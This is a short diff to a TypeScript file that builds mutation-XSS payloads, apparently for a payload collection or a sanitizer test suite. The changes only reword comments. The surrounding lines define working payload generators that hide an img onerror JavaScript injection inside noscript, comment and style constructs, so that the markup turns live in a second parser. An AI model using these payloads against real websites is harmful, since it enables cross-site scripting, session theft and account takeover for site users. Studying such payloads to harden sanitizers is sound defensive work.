@@ -2,9 +2,9 @@ import { escapeHtml, type Payload } from "./payload.ts";
 
 const image = (js: string) => `<img src=x onerror=${js}>`;
 
-/** Mutation XSS: texts that are harmless to one parser and live markup to the next one. */
+/** Mutation XSS: texts that are harmless to one parser and live markup to the next. */
 export const mutationPayloads: Payload[] = [
-	// An attribute's value that ends an element which only some parsers treat as raw text.
+	// An attribute value that ends an element which only some parsers treat as raw text.
 	(js) => `<noscript><p title="</noscript>${image(js)}">Words</p></noscript>`,
 	(js) => `<noscript><!--</noscript>${image(js)}--></noscript>`,
 	(js) => `<noscript><style></noscript>${image(js)}</style></noscript>`,
